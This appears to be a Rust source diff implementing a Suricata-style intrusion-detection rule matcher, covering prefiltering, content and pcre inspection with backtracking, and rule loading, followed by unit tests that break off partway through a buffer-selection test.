@@ -1,0 +1,1559 @@
+//! [`Detector`]: prefilter and verification of compiled rules against an [`Inspection`].
+//!
+//! Rules are grouped by transport (TCP, UDP, ICMP, other; `ip` rules are in every group, an
+//! application-protocol rule in the groups of its transports). Each group has, per buffer, one
+//! ASCII-case-insensitive Aho-Corasick automaton over the fast patterns of its rules; a rule
+//! without a usable fast pattern (no positive content) is checked on every inspection that has
+//! the buffers it needs. [`Detector::inspect`] scans each buffer present once per group, then
+//! verifies each candidate completely: protocol, direction, `flow`, addresses and ports,
+//! `dsize`, and every buffer list with Suricata's content-inspection algorithm
+//! (detect-engine-content-inspection.c): offsets relative to the previous match of the same
+//! buffer, and when a later item fails, the next occurrence of a content is tried if the item
+//! after it is bounded by `within` (or is a `/R` pcre), with Suricata's recursion limit.
+
+use std::collections::HashMap;
+use std::net::IpAddr;
+use std::path::Path;
+use std::sync::Arc;
+
+use aho_corasick::{AhoCorasick, MatchKind};
+
+use super::RuleError;
+use super::compile::{
+    AppProto, Buffer, Classifications, CompiledRule, ContentMatch, Direction, Item, PcreMatch,
+    RuleProto, Target, compile_rule,
+};
+use super::parse::{Action, Vars, parse_rules};
+
+/// Transport protocol of the inspected packet.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum Transport {
+    Tcp,
+    Udp,
+    Icmp,
+    Icmpv6,
+    Sctp,
+    /// Any other IP protocol number.
+    Other(u8),
+}
+
+impl Transport {
+    fn group(self) -> usize {
+        match self {
+            Transport::Tcp => 0,
+            Transport::Udp => 1,
+            Transport::Icmp | Transport::Icmpv6 => 2,
+            Transport::Sctp | Transport::Other(_) => 3,
+        }
+    }
+}
+
+const GROUPS: usize = 4;
+
+/// What one call to [`Detector::inspect`] looks at: a packet, and the application-layer buffers
+/// that became available with it.
+///
+/// The app-layer fields are those of the transaction side seen in `direction`: request fields
+/// (`http_uri`, `http_method`, `http_host`, `http_user_agent`, `http_request_body`,
+/// `dns_query`, `tls_sni`) with [`Direction::ToServer`], `http_stat_code` with
+/// [`Direction::ToClient`], and `http_headers`/`http_cookie` of the side being inspected.
+/// There is no per-transaction state yet: set them on the one inspection where that side of the
+/// transaction became complete, or a rule matching them alerts again on every packet.
+///
+/// Addresses and ports are the packet's: in a [`Direction::ToClient`] inspection the source is
+/// the server, as in Suricata (rule headers are matched against the packet).
+#[derive(Clone, Copy, Debug)]
+pub struct Inspection<'a> {
+    pub proto: Transport,
+    /// Application protocol detected on the flow, if any.
+    pub app_proto: Option<AppProto>,
+    pub src_ip: IpAddr,
+    pub src_port: u16,
+    pub dst_ip: IpAddr,
+    pub dst_port: u16,
+    pub direction: Direction,
+    /// TCP: three-way handshake seen; other transports: traffic seen both ways.
+    pub established: bool,
+    /// The packet payload (`pkt_data`, `dsize`).
+    pub payload: &'a [u8],
+    /// Normalized request URI (path and query, percent-decoding as libhtp's normalization).
+    pub http_uri: Option<&'a [u8]>,
+    pub http_method: Option<&'a [u8]>,
+    /// Lower-cased host name without the port.
+    pub http_host: Option<&'a [u8]>,
+    pub http_user_agent: Option<&'a [u8]>,
+    /// `Name: value\r\n` per header, Cookie/Set-Cookie excluded: see [`http_header_buffer`].
+    pub http_headers: Option<&'a [u8]>,
+    /// The three status digits.
+    pub http_stat_code: Option<&'a [u8]>,
+    pub http_cookie: Option<&'a [u8]>,
+    /// The (de-chunked) request body.
+    pub http_request_body: Option<&'a [u8]>,
+    /// The query name, without the trailing dot.
+    pub dns_query: Option<&'a [u8]>,
+    pub tls_sni: Option<&'a [u8]>,
+}
+
+impl<'a> Inspection<'a> {
+    /// A packet with no app-layer buffers, not established, no application protocol.
+    pub fn new(
+        proto: Transport,
+        src_ip: IpAddr,
+        src_port: u16,
+        dst_ip: IpAddr,
+        dst_port: u16,
+        direction: Direction,
+        payload: &'a [u8],
+    ) -> Self {
+        Inspection {
+            proto,
+            app_proto: None,
+            src_ip,
+            src_port,
+            dst_ip,
+            dst_port,
+            direction,
+            established: false,
+            payload,
+            http_uri: None,
+            http_method: None,
+            http_host: None,
+            http_user_agent: None,
+            http_headers: None,
+            http_stat_code: None,
+            http_cookie: None,
+            http_request_body: None,
+            dns_query: None,
+            tls_sni: None,
+        }
+    }
+
+    /// The bytes of a buffer, if present.
+    pub fn buffer(&self, b: Buffer) -> Option<&'a [u8]> {
+        match b {
+            Buffer::Payload => Some(self.payload),
+            Buffer::HttpUri => self.http_uri,
+            Buffer::HttpMethod => self.http_method,
+            Buffer::HttpHost => self.http_host,
+            Buffer::HttpUserAgent => self.http_user_agent,
+            Buffer::HttpHeader => self.http_headers,
+            Buffer::HttpStatCode => self.http_stat_code,
+            Buffer::HttpCookie => self.http_cookie,
+            Buffer::HttpRequestBody => self.http_request_body,
+            Buffer::DnsQuery => self.dns_query,
+            Buffer::TlsSni => self.tls_sni,
+        }
+    }
+}
+
+/// Builds Suricata's normalized `http.header` buffer for one side of a transaction:
+/// `Name: value\r\n` for each header in order (no extra final `\r\n`), trailing blanks of the
+/// value removed, without `Cookie` in a request or `Set-Cookie` in a response (those are the
+/// `http.cookie` buffer).
+pub fn http_header_buffer<'h>(
+    direction: Direction,
+    headers: impl IntoIterator<Item = (&'h [u8], &'h [u8])>,
+) -> Vec<u8> {
+    let skip: &[u8] = match direction {
+        Direction::ToServer => b"cookie",
+        Direction::ToClient => b"set-cookie",
+    };
+    let mut out = Vec::new();
+    for (name, value) in headers {
+        if name.eq_ignore_ascii_case(skip) {
+            continue;
+        }
+        let end = value
+            .iter()
+            .rposition(|c| !matches!(c, b' ' | b'\t'))
+            .map_or(0, |p| p + 1);
+        out.extend_from_slice(name);
+        out.extend_from_slice(b": ");
+        out.extend_from_slice(&value[..end]);
+        out.extend_from_slice(b"\r\n");
+    }
+    out
+}
+
+/// A rule that matched.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Hit {
+    pub sid: u32,
+    pub gid: u32,
+    pub rev: u32,
+    pub msg: Arc<str>,
+    pub classtype: Option<Arc<str>>,
+    /// The classtype's description (EVE `alert.category`), when a classification table is loaded.
+    pub category: Option<Arc<str>>,
+    /// EVE `alert.severity`: the rule's `priority`, else its classtype's, else 3.
+    pub severity: u8,
+    /// EVE `alert.metadata`: values per key, in rule order.
+    pub metadata: Arc<std::collections::BTreeMap<String, Vec<String>>>,
+    /// `pass` hits are not alerts: they only say that inspection stopped.
+    pub action: Action,
+    pub target: Option<Target>,
+}
+
+impl Hit {
+    fn of(r: &CompiledRule) -> Hit {
+        let m = &r.meta;
+        Hit {
+            sid: m.sid,
+            gid: m.gid,
+            rev: m.rev,
+            msg: m.msg.clone(),
+            classtype: m.classtype.clone(),
+            category: m.category.clone(),
+            severity: m.priority,
+            metadata: m.metadata.clone(),
+            action: m.action,
+            target: m.target,
+        }
+    }
+}
+
+struct Prefilter {
+    ac: AhoCorasick,
+    /// rules per pattern id
+    rules: Vec<Vec<u32>>,
+}
+
+#[derive(Default)]
+struct Group {
+    prefilters: Vec<Option<Prefilter>>,
+    /// rules with no fast pattern, with the buffer they need (if any)
+    always: Vec<(Option<Buffer>, u32)>,
+}
+
+/// A loaded rule set.
+pub struct Detector {
+    rules: Vec<CompiledRule>,
+    groups: Vec<Group>,
+}
+
+impl std::fmt::Debug for Detector {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Detector")
+            .field("rules", &self.rules.len())
+            .finish()
+    }
+}
+
+/// Collects rules, then builds a [`Detector`].
+pub struct DetectorBuilder {
+    vars: Vars,
+    classifications: Classifications,
+    rules: Vec<CompiledRule>,
+    errors: Vec<RuleError>,
+}
+
+impl Default for DetectorBuilder {
+    fn default() -> Self {
+        DetectorBuilder {
+            vars: Vars::default(),
+            classifications: Classifications::new(),
+            rules: Vec::new(),
+            errors: Vec::new(),
+        }
+    }
+}
+
+impl DetectorBuilder {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Variables for the rules added after this call.
+    pub fn vars(mut self, vars: Vars) -> Self {
+        self.vars = vars;
+        self
+    }
+
+    /// Classification table for the rules added after this call.
+    pub fn classifications(mut self, c: Classifications) -> Self {
+        self.classifications = c;
+        self
+    }
+
+    /// Parses and compiles the rules of one file's text.
+    pub fn add_rules(&mut self, text: &str, file: &str) -> &mut Self {
+        for parsed in parse_rules(text, file, &self.vars) {
+            match parsed {
+                Err(e) => self.errors.push(e),
+                Ok(p) => match compile_rule(&p, &self.classifications) {
+                    Ok(r) => self.rules.push(r),
+                    Err(es) => self.errors.extend(es),
+                },
+            }
+        }
+        self
+    }
+
+    /// Reads and adds a rules file; a file that cannot be read is an error at line 0.
+    pub fn add_file(&mut self, path: impl AsRef<Path>) -> &mut Self {
+        let p = path.as_ref();
+        let name = p.display().to_string();
+        match std::fs::read(p) {
+            Ok(bytes) => {
+                let text = String::from_utf8_lossy(&bytes);
+                self.add_rules(&text, &name);
+            }
+            Err(e) => self.errors.push(RuleError {
+                file: name,
+                line: 0,
+                column: 0,
+                keyword: None,
+                reason: format!("cannot read the file: {e}"),
+                rule_line: 0,
+            }),
+        }
+        self
+    }
+
+    /// Rules loaded so far.
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// Drops duplicate (gid, sid) pairs (the higher rev stays, as in Suricata), orders the
+    /// rules (action order pass/drop/reject/alert, then priority, then load order) and builds
+    /// the prefilters.
+    pub fn build(self) -> (Detector, Vec<RuleError>) {
+        let DetectorBuilder {
+            rules, mut errors, ..
+        } = self;
+        let mut keep: HashMap<(u32, u32), usize> = HashMap::new();
+        let mut dropped = vec![false; rules.len()];
+        for (i, r) in rules.iter().enumerate() {
+            let key = (r.meta.gid, r.meta.sid);
+            match keep.get(&key).copied() {
+                None => {
+                    keep.insert(key, i);
+                }
+                Some(j) => {
+                    let (lose, win) = if r.meta.rev > rules[j].meta.rev {
+                        (j, i)
+                    } else {
+                        (i, j)
+                    };
+                    dropped[lose] = true;
+                    keep.insert(key, win);
+                    let (l, w) = (&rules[lose], &rules[win]);
+                    errors.push(RuleError {
+                        file: l.file.to_string(),
+                        line: l.line,
+                        column: 1,
+                        keyword: Some("sid".to_string()),
+                        reason: format!(
+                            "duplicate sid {} (gid {}): the rule of {}:{} (rev {}) is kept",
+                            l.meta.sid, l.meta.gid, w.file, w.line, w.meta.rev
+                        ),
+                        rule_line: l.line,
+                    });
+                }
+            }
+        }
+        let mut rules: Vec<CompiledRule> = rules
+            .into_iter()
+            .zip(dropped)
+            .filter_map(|(r, d)| (!d).then_some(r))
+            .collect();
+        rules.sort_by_key(|r| (r.meta.action.order(), r.meta.priority));
+        let groups = build_groups(&rules);
+        (Detector { rules, groups }, errors)
+    }
+}
+
+fn rule_groups(r: &CompiledRule) -> [bool; GROUPS] {
+    let mut g = match r.proto {
+        RuleProto::Ip | RuleProto::Ipv4 | RuleProto::Ipv6 => [true; GROUPS],
+        RuleProto::Tcp | RuleProto::TcpPkt | RuleProto::TcpStream => [true, false, false, false],
+        RuleProto::Udp => [false, true, false, false],
+        RuleProto::Icmp | RuleProto::Icmpv4 | RuleProto::Icmpv6 => [false, false, true, false],
+        RuleProto::Sctp => [false, false, false, true],
+        RuleProto::Http1 | RuleProto::App(_) => [true, true, false, false],
+    };
+    if let Some(a) = r.app_proto {
+        g[2] = false;
+        g[3] = false;
+        match a.transport() {
+            "tcp" => g[1] = false,
+            "udp" => g[0] = false,
+            _ => {}
+        }
+    }
+    g
+}
+
+fn build_groups(rules: &[CompiledRule]) -> Vec<Group> {
+    // per group, per buffer: (lower-cased pattern -> pattern id, patterns, rules per pattern)
+    type Table = (HashMap<Vec<u8>, usize>, Vec<Vec<u8>>, Vec<Vec<u32>>);
+    let mut tables: Vec<Vec<Table>> = (0..GROUPS)
+        .map(|_| (0..Buffer::ALL.len()).map(|_| Default::default()).collect())
+        .collect();
+    let mut groups: Vec<Group> = (0..GROUPS).map(|_| Group::default()).collect();
+    for (idx, r) in rules.iter().enumerate() {
+        let idx = idx as u32;
+        for (g, member) in rule_groups(r).into_iter().enumerate() {
+            if !member {
+                continue;
+            }
+            match &r.fast_pattern {
+                Some(fp) => {
+                    let (ids, pats, by_pat) = &mut tables[g][fp.buffer.index()];
+                    let key = fp.bytes.to_ascii_lowercase();
+                    let id = *ids.entry(key.clone()).or_insert_with(|| {
+                        pats.push(key);
+                        by_pat.push(Vec::new());
+                        pats.len() - 1
+                    });
+                    by_pat[id].push(idx);
+                }
+                None => {
+                    // the buffer it needs: any non-payload list (absent buffer => no match)
+                    let need = r.lists.iter().map(|l| l.0).find(|b| *b != Buffer::Payload);
+                    groups[g].always.push((need, idx));
+                }
+            }
+        }
+    }
+    for (g, per_buffer) in tables.into_iter().enumerate() {
+        groups[g].prefilters = per_buffer
+            .into_iter()
+            .map(|(_, pats, rules)| {
+                if pats.is_empty() {
+                    return None;
+                }
+                let ac = AhoCorasick::builder()
+                    .ascii_case_insensitive(true)
+                    .match_kind(MatchKind::Standard)
+                    .build(&pats)
+                    .expect("fast patterns are non-empty byte strings");
+                Some(Prefilter { ac, rules })
+            })
+            .collect();
+    }
+    groups
+}
+
+impl Detector {
+    pub fn builder() -> DetectorBuilder {
+        DetectorBuilder::new()
+    }
+
+    /// Loads the rules of one text (`file` names it in errors), with no classification table.
+    pub fn from_rules(text: &str, file: &str, vars: &Vars) -> (Detector, Vec<RuleError>) {
+        let mut b = DetectorBuilder::new().vars(vars.clone());
+        b.add_rules(text, file);
+        b.build()
+    }
+
+    /// Loads rule files, with no classification table (see [`DetectorBuilder`] for one).
+    pub fn load_files<P: AsRef<Path>>(paths: &[P], vars: &Vars) -> (Detector, Vec<RuleError>) {
+        let mut b = DetectorBuilder::new().vars(vars.clone());
+        for p in paths {
+            b.add_file(p);
+        }
+        b.build()
+    }
+
+    /// Number of loaded rules.
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// The loaded rules, in evaluation order.
+    pub fn rules(&self) -> &[CompiledRule] {
+        &self.rules
+    }
+
+    /// The rules matching `insp`, in evaluation order. When a `pass` rule matches, only that
+    /// hit is returned (Suricata stops inspecting the packet).
+    pub fn inspect(&self, insp: &Inspection<'_>) -> Vec<Hit> {
+        let group = &self.groups[insp.proto.group()];
+        let mut cands: Vec<u32> = Vec::new();
+        for (bi, pf) in group.prefilters.iter().enumerate() {
+            let (Some(pf), Some(data)) = (pf, insp.buffer(Buffer::ALL[bi])) else {
+                continue;
+            };
+            let mut seen = vec![false; pf.rules.len()];
+            for m in pf.ac.find_overlapping_iter(data) {
+                let p = m.pattern().as_usize();
+                if !seen[p] {
+                    seen[p] = true;
+                    cands.extend_from_slice(&pf.rules[p]);
+                }
+            }
+        }
+        for &(need, r) in &group.always {
+            if need.is_none_or(|b| insp.buffer(b).is_some()) {
+                cands.push(r);
+            }
+        }
+        cands.sort_unstable();
+        cands.dedup();
+        let mut hits = Vec::new();
+        for r in cands {
+            let rule = &self.rules[r as usize];
+            if rule_matches(rule, insp) {
+                if rule.meta.action == Action::Pass {
+                    return vec![Hit::of(rule)];
+                }
+                hits.push(Hit::of(rule));
+            }
+        }
+        hits
+    }
+}
+
+fn proto_matches(r: &CompiledRule, insp: &Inspection<'_>) -> bool {
+    let l4 = match r.proto {
+        RuleProto::Ip => true,
+        RuleProto::Ipv4 => insp.src_ip.is_ipv4(),
+        RuleProto::Ipv6 => insp.src_ip.is_ipv6(),
+        RuleProto::Tcp | RuleProto::TcpPkt | RuleProto::TcpStream => insp.proto == Transport::Tcp,
+        RuleProto::Udp => insp.proto == Transport::Udp,
+        RuleProto::Icmp => matches!(insp.proto, Transport::Icmp | Transport::Icmpv6),
+        RuleProto::Icmpv4 => insp.proto == Transport::Icmp,
+        RuleProto::Icmpv6 => insp.proto == Transport::Icmpv6,
+        RuleProto::Sctp => insp.proto == Transport::Sctp,
+        RuleProto::Http1 | RuleProto::App(_) => true,
+    };
+    l4 && match (r.app_proto, insp.app_proto) {
+        (None, _) => true,
+        (Some(_), None) => false,
+        (Some(want), Some(got)) => {
+            want == got || (want == AppProto::Http && got == AppProto::Http2 && !r.http1_only)
+        }
+    }
+}
+
+/// Header, flow, dsize and every buffer list of `r` against `insp`.
+pub(crate) fn rule_matches(r: &CompiledRule, insp: &Inspection<'_>) -> bool {
+    if !proto_matches(r, insp) {
+        return false;
+    }
+    if r.direction.is_some_and(|d| d != insp.direction) {
+        return false;
+    }
+    if r.flow.established.is_some_and(|e| e != insp.established) {
+        return false;
+    }
+    let fwd = r.src.matches(insp.src_ip)
+        && r.dst.matches(insp.dst_ip)
+        && r.src_ports.matches(insp.src_port)
+        && r.dst_ports.matches(insp.dst_port);
+    let rev = || {
+        r.src.matches(insp.dst_ip)
+            && r.dst.matches(insp.src_ip)
+            && r.src_ports.matches(insp.dst_port)
+            && r.dst_ports.matches(insp.src_port)
+    };
+    if !(fwd || (r.bidirectional && rev())) {
+        return false;
+    }
+    if let Some(d) = r.dsize
+        && !d.matches(insp.payload.len() as u64)
+    {
+        return false;
+    }
+    r.lists.iter().all(|(b, items)| match insp.buffer(*b) {
+        Some(data) => inspect_buffer(items, data),
+        None => false,
+    })
+}
+
+/// Suricata's `inspection_recursion_limit` default.
+const RECURSION_LIMIT: u32 = 3000;
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Outcome {
+    Match,
+    NoMatch,
+    /// No match, and no other occurrence of an earlier item can change that.
+    Discontinue,
+}
+
+/// Whether the items of one buffer list all match `buf`.
+pub fn inspect_buffer(items: &[Item], buf: &[u8]) -> bool {
+    if items.is_empty() {
+        return true;
+    }
+    let mut budget = 0;
+    run(items, 0, buf, 0, &mut budget) == Outcome::Match
+}
+
+fn run(items: &[Item], i: usize, buf: &[u8], buffer_offset: usize, budget: &mut u32) -> Outcome {
+    *budget += 1;
+    if *budget >= RECURSION_LIMIT {
+        return Outcome::Discontinue;
+    }
+    match &items[i] {
+        Item::Content(cd) => run_content(cd, items, i, buf, buffer_offset, budget),
+        Item::Pcre(pe) => run_pcre(pe, items, i, buf, buffer_offset, budget),
+    }
+}
+
+/// "goto match": the item matched with the detection offset at `offset`; inspect the next one.
+fn next(items: &[Item], i: usize, buf: &[u8], offset: usize, budget: &mut u32) -> Outcome {
+    if i + 1 == items.len() {
+        Outcome::Match
+    } else {
+        run(items, i + 1, buf, offset, budget)
+    }
+}
+
+fn run_content(
+    cd: &ContentMatch,
+    items: &[Item],
+    i: usize,
+    buf: &[u8],
+    buffer_offset: usize,
+    budget: &mut u32,
+) -> Outcome {
+    let len = buf.len() as i64;
+    let plen = cd.pattern.len();
+    let prev_buffer_offset = buffer_offset as i64;
+    let relative = cd.is_relative();
+    let is_last = i + 1 == items.len();
+    let mut prev_offset: i64 = 0;
+    loop {
+        let (mut offset, mut depth);
+        if relative {
+            offset = prev_buffer_offset;
+            depth = len;
+            let distance = cd.distance.unwrap_or(0) as i64;
+            if cd.distance.is_some() {
+                offset = (offset + distance).max(0);
+            }
+            if let Some(w) = cd.within {
+                depth = depth.min(prev_buffer_offset + w as i64 + distance);
+            }
+        } else {
+            depth = cd.depth.map_or(len, |d| d as i64);
+            offset = cd.offset as i64;
+        }
+        if prev_offset != 0 {
+            offset = prev_offset;
+        }
+        depth = depth.min(len);
+        // an empty window can never hold the pattern, but satisfies a negated one
+        if offset > depth || depth <= 0 {
+            return if cd.negated {
+                next(items, i, buf, buffer_offset, budget)
+            } else {
+                Outcome::NoMatch
+            };
+        }
+        let (o, d) = (offset as usize, depth as usize);
+        let window = &buf[o..d];
+        let found = if cd.endswith {
+            // the only occurrence that can count ends at the end of the buffer
+            if d < buf.len() || window.len() < plen {
+                None
+            } else {
+                cd.equals(&window[window.len() - plen..])
+                    .then_some(d - plen)
+            }
+        } else if plen > window.len() {
+            None
+        } else {
+            cd.find(window).map(|p| p + o)
+        };
+        let Some(start) = found else {
+            if cd.negated {
+                return next(items, i, buf, buffer_offset, budget);
+            }
+            // an absolute content not found anywhere: nothing earlier can change that
+            return if relative {
+                Outcome::NoMatch
+            } else {
+                Outcome::Discontinue
+            };
+        };
+        if cd.negated {
+            return if cd.is_single() {
+                Outcome::Discontinue
+            } else {
+                Outcome::NoMatch
+            };
+        }
+        let match_offset = start + plen;
+        if is_last {
+            return Outcome::Match;
+        }
+        match run(items, i + 1, buf, match_offset, budget) {
+            Outcome::Match => return Outcome::Match,
+            Outcome::Discontinue => return Outcome::Discontinue,
+            Outcome::NoMatch => {}
+        }
+        // only a 'within' bound on the next item makes a later occurrence worth trying
+        if !cd.within_next {
+            return Outcome::Discontinue;
+        }
+        prev_offset = start as i64 + 1;
+    }
+}
+
+fn run_pcre(
+    pe: &PcreMatch,
+    items: &[Item],
+    i: usize,
+    buf: &[u8],
+    buffer_offset: usize,
+    budget: &mut u32,
+) -> Outcome {
+    let base = if pe.relative {
+        buffer_offset.min(buf.len())
+    } else {
+        0
+    };
+    let subject = &buf[base..];
+    // absolute position after which to look for the next occurrence (0: from the start)
+    let mut match_start_offset = 0usize;
+    loop {
+        let start = if match_start_offset != 0 {
+            match_start_offset - base
+        } else {
+            0
+        };
+        let m = if start <= subject.len() {
+            pe.regex.find_at(subject, start)
+        } else {
+            None
+        };
+        let (offset, restart) = match (m, pe.negated) {
+            (Some(m), false) => (base + m.end(), base + m.start() + 1),
+            (None, true) => (buffer_offset, 0),
+            _ => return Outcome::NoMatch,
+        };
+        if !pe.relative_next {
+            return next(items, i, buf, offset, budget);
+        }
+        match next(items, i, buf, offset, budget) {
+            Outcome::Match => return Outcome::Match,
+            Outcome::Discontinue => return Outcome::Discontinue,
+            Outcome::NoMatch => {}
+        }
+        if restart == 0 {
+            return Outcome::NoMatch;
+        }
+        match_start_offset = restart;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::rule_stats;
+    use std::net::Ipv4Addr;
+    use std::time::Instant;
+
+    const CLIENT: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 168, 1, 10));
+    const SERVER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 5));
+
+    fn detector(rules: &str) -> Detector {
+        let (d, errors) = Detector::from_rules(rules, "test.rules", &Vars::default());
+        assert!(errors.is_empty(), "{errors:#?}");
+        d
+    }
+
+    fn tcp(payload: &[u8]) -> Inspection<'_> {
+        Inspection {
+            established: true,
+            ..Inspection::new(
+                Transport::Tcp,
+                CLIENT,
+                40000,
+                SERVER,
+                80,
+                Direction::ToServer,
+                payload,
+            )
+        }
+    }
+
+    fn sids(d: &Detector, insp: &Inspection<'_>) -> Vec<u32> {
+        let mut v: Vec<u32> = d.inspect(insp).iter().map(|h| h.sid).collect();
+        v.sort_unstable();
+        v
+    }
+
+    /// Does a rule made of `opts` match `payload` (TCP, to_server, established)?
+    fn payload_match(opts: &str, payload: &[u8]) -> bool {
+        let d = detector(&format!("alert tcp any any -> any any ({opts} sid:1;)"));
+        !d.inspect(&tcp(payload)).is_empty()
+    }
+
+    #[test]
+    fn detector_is_shareable_across_threads() {
+        fn assert_send_sync<T: Send + Sync>() {}
+        assert_send_sync::<Detector>();
+        assert_send_sync::<Hit>();
+    }
+
+    #[test]
+    fn offset_and_depth() {
+        assert!(payload_match(
+            r#"content:"def"; offset:3; depth:3;"#,
+            b"abcdefgh"
+        ));
+        assert!(!payload_match(r#"content:"def"; offset:4;"#, b"abcdefgh"));
+        assert!(!payload_match(r#"content:"def"; depth:5;"#, b"abcdefgh"));
+        assert!(payload_match(r#"content:"def"; depth:6;"#, b"abcdefgh"));
+        // depth counts from offset
+        assert!(payload_match(
+            r#"content:"gh"; offset:4; depth:4;"#,
+            b"abcdefgh"
+        ));
+        assert!(!payload_match(
+            r#"content:"gh"; offset:4; depth:3;"#,
+            b"abcdefgh"
+        ));
+    }
+
+    #[test]
+    fn distance_and_within() {
+        assert!(payload_match(
+            r#"content:"ab"; content:"ef"; distance:2;"#,
+            b"abcdef"
+        ));
+        assert!(!payload_match(
+            r#"content:"ab"; content:"ef"; distance:3;"#,
+            b"abcdef"
+        ));
+        assert!(payload_match(
+            r#"content:"ab"; content:"cd"; within:2;"#,
+            b"abcdef"
+        ));
+        assert!(!payload_match(
+            r#"content:"ab"; content:"de"; within:2;"#,
+            b"abcdef"
+        ));
+        assert!(payload_match(
+            r#"content:"ab"; content:"de"; distance:1; within:2;"#,
+            b"abcdef"
+        ));
+        // negative distance: overlapping the previous match
+        assert!(payload_match(
+            r#"content:"cd"; content:"bcde"; distance:-3; within:4;"#,
+            b"abcdef"
+        ));
+        // relative to the first occurrence fails, the third occurrence works: backtracking
+        assert!(payload_match(
+            r#"content:"a"; content:"b"; distance:0; within:1;"#,
+            b"a_a_ab"
+        ));
+        // three levels of backtracking
+        assert!(payload_match(
+            r#"content:"x"; content:"y"; distance:0; within:1; content:"z"; distance:0; within:1;"#,
+            b"xy_xyq_xyz"
+        ));
+        // no within on the next content: a later occurrence can't help (Suricata gives up)
+        assert!(!payload_match(
+            r#"content:"a"; content:"b"; distance:2;"#,
+            b"a_b_a"
+        ));
+        // a relative content first in the list is relative to the buffer start
+        assert!(payload_match(
+            r#"content:"ab"; distance:0; within:2;"#,
+            b"abc"
+        ));
+        assert!(!payload_match(
+            r#"content:"bc"; distance:0; within:2;"#,
+            b"abc"
+        ));
+    }
+
+    #[test]
+    fn suricata_doc_firefox_example() {
+        let opts = r#"content:"User-Agent|3A| Mozilla/5.0 |28|Windows|3B| "; content:"Firefox/3."; distance:0; content:!"Firefox/3.6.13"; distance:-10;"#;
+        assert!(payload_match(
+            opts,
+            b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.12\r\n"
+        ));
+        assert!(!payload_match(
+            opts,
+            b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.13\r\n"
+        ));
+    }
+
+    #[test]
+    fn nocase_negation_startswith_endswith() {
+        assert!(payload_match(r#"content:"SELECT"; nocase;"#, b"x select y"));
+        assert!(!payload_match(r#"content:"SELECT";"#, b"x select y"));
+        assert!(payload_match(
+            r#"content:"|53 45|LECT"; nocase;"#,
+            b"sElEcT"
+        ));
+        assert!(payload_match(r#"content:!"evil";"#, b"good"));
+        assert!(!payload_match(r#"content:!"evil";"#, b"so evil"));
+        assert!(payload_match(
+            r#"content:"GET "; startswith;"#,
+            b"GET / HTTP/1.1"
+        ));
+        assert!(!payload_match(
+            r#"content:"GET "; startswith;"#,
+            b" GET / HTTP/1.1"
+        ));
+        assert!(payload_match(
+            r#"content:".php"; endswith;"#,
+            b"/a.php/b.php"
+        ));
+        assert!(!payload_match(r#"content:".php"; endswith;"#, b"/a.php?x"));
+        assert!(payload_match(
+            r#"content:"/a"; startswith; content:".php"; endswith;"#,
+            b"/a.php"
+        ));
+        assert!(payload_match(r#"content:!".php"; endswith;"#, b"/a.php?x"));
+        assert!(!payload_match(
+            r#"content:!".php"; endswith;"#,
+            b"/x.php/a.php"
+        ));
+        assert!(payload_match(
+            r#"content:"/"; content:"b"; distance:0; endswith;"#,
+            b"/a/b"
+        ));
+        // negated relative content: absent right after the match
+        assert!(payload_match(
+            r#"content:"user="; content:!"admin"; within:5;"#,
+            b"user=guest&x=admin"
+        ));
+        assert!(!payload_match(
+            r#"content:"user="; content:!"admin"; within:5;"#,
+            b"user=admin"
+        ));
+        // a negated content with positive ones around it
+        assert!(payload_match(
+            r#"content:"a"; content:!"zz"; content:"b";"#,
+            b"a b"
+        ));
+        assert!(!payload_match(
+            r#"content:"a"; content:!"zz"; content:"b";"#,
+            b"a zz b"
+        ));
+    }
+
+    #[test]
+    fn pcre_flags_and_relative() {
+        assert!(payload_match(
+            r#"pcre:"/un.on\s+select/i";"#,
+            b"x UNION  SELECT y"
+        ));
+        assert!(!payload_match(
+            r#"pcre:"/un.on\s+select/";"#,
+            b"x UNION  SELECT y"
+        ));
+        assert!(payload_match(r#"pcre:"/^b$/m";"#, b"a\nb\nc"));
+        assert!(!payload_match(r#"pcre:"/^b$/";"#, b"a\nb\nc"));
+        assert!(payload_match(r#"pcre:"/a.c/s";"#, b"a\nc"));
+        assert!(!payload_match(r#"pcre:"/a.c/";"#, b"a\nc"));
+        assert!(payload_match(r#"pcre:"/a b c/x";"#, b"abc"));
+        assert!(!payload_match(r#"pcre:"/bc/A";"#, b"abc"));
+        assert!(payload_match(r#"pcre:!"/evil/";"#, b"good"));
+        assert!(!payload_match(r#"pcre:!"/evil/";"#, b"evil"));
+        // R: anchored at the end of the previous match
+        assert!(payload_match(
+            r#"content:"id="; pcre:"/^\d+&/R";"#,
+            b"x=1&id=42&y"
+        ));
+        assert!(!payload_match(
+            r#"content:"id="; pcre:"/^\d+&/R";"#,
+            b"id=x&id2=42&"
+        ));
+        // R with a later occurrence of the content: tried again (pcre R sets within_next)
+        assert!(payload_match(
+            r#"content:"id="; pcre:"/^\d/R";"#,
+            b"id=x id=7"
+        ));
+        // a content relative to a pcre match
+        assert!(payload_match(
+            r#"pcre:"/user=\w+/"; content:"&pw="; within:4;"#,
+            b"user=bob&pw=1"
+        ));
+        assert!(payload_match(
+            r#"content:"a"; pcre:"/b/R"; content:"c"; distance:0; within:1;"#,
+            b"a b d a bc"
+        ));
+        // pcre escapes as Suricata writes them inside a rule
+        assert!(payload_match(r#"pcre:"/a\;b\x22c/";"#, b"a;b\"c"));
+    }
+
+    #[test]
+    fn buffer_selection() {
+        let d = detector(concat!(
+            "alert http any any -> any any (http.uri; content:\"/admin\"; sid:1;)\n",
+            "alert http any any -> any any (content:\"/admin\"; http_uri; content:\"POST\"; http_method; sid:2;)\n",
